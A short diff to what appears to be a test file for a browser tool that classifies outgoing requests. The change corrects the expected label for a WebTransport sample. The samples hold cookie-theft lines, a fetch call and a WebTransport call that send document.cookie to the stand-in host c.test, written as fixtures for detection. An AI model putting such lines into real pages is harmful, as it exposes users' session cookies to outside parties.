@@ -229,7 +229,7 @@ const SENDING = [
 		"navigation location.href > < url cookie",
 	],
 	["parent.fetch", `parent.fetch("https://c.test/?" + document.cookie)`, "request fetch > < url cookie"],
-	["WebTransport", `new WebTransport("https://c.test/?" + document.cookie)`, "request WebSocket > < url cookie"],
+	["WebTransport", `new WebTransport("https://c.test/?" + document.cookie)`, "request WebTransport > < url cookie"],
 ] as const;
 
 /** The same, with the page's own site in the place of the stranger. */
